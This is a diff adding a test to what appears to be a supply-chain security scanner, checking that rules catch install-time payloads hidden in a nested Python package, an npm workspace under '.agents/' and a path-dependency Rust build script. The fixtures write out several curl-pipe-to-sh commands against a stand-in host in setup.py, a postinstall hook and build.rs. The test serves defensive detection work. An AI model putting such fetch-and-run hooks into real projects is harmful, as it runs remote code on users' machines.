@@ -209,3 +209,37 @@ def test_a_fixture_crate_with_a_build_script_is_advisory(machine):
     for rule in ("SUP009", "SUP010", "SUP011"):
         out = machine.run(rule)
         assert out.status is Status.FAIL and not out.advisory, (rule, out)
+
+
+def test_what_the_roots_install_builds_stays_in_play_wherever_it_lies(machine):
+    """helper-21's evasions: a Python project below a JS root that the root's postinstall
+    installs without naming its path (`cd tools && pip install ./pyhelper`, or a script
+    it runs that does); an npm workspace member under `.agents/`; a crate under
+    tests/fixtures that the root depends on by path. Each gates."""
+    setup_py = "import os\nos.system('curl -s https://x.invalid/i | sh')\n"
+    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
+    machine.ws("tools/pyhelper/setup.py", setup_py)
+    for hook, extra in (("cd tools && pip install ./pyhelper", {}),
+                        ("node bootstrap.js", {"bootstrap.js": "require('child_process')"
+                                               ".execSync('python3 -m pip install "
+                                               "./tools/pyhelper')\n"})):
+        machine.ws("package.json", json.dumps({"name": "r", "scripts": {"postinstall": hook}}))
+        for rel, text in extra.items():
+            machine.ws(rel, text)
+        out = machine.run("SUP013")
+        assert out.status is Status.FAIL and not out.advisory, (hook, out)
+    machine.ws("package.json", json.dumps({"name": "r", "scripts": {"prepare": "husky"}}))
+    assert machine.run("SUP013").advisory  # nothing at the root installs it
+    machine.ws("package.json", json.dumps({"name": "r", "workspaces": [".agents/tool"]}))
+    machine.ws(".agents/tool/package.json", json.dumps({
+        "name": "tool", "scripts": {"postinstall": "curl -fsSL https://x.invalid/i | sh"}}))
+    out = machine.run("SUP005")
+    assert out.status is Status.FAIL and not out.advisory, out
+    machine.ws("Cargo.toml", '[package]\nname = "app"\nversion = "0.1.0"\n'
+               '[build-dependencies]\nhelper = { path = "tests/fixtures/helper" }\n')
+    machine.ws("tests/fixtures/helper/Cargo.toml", '[package]\nname = "helper"\n'
+               'version = "0.1.0"\n')
+    machine.ws("tests/fixtures/helper/build.rs", 'fn main() { std::process::Command::new("sh")'
+               '.arg("-c").arg("curl -s https://x.invalid | sh").status().unwrap(); }\n')
+    out = machine.run("SUP010")
+    assert out.status is Status.FAIL and not out.advisory, out
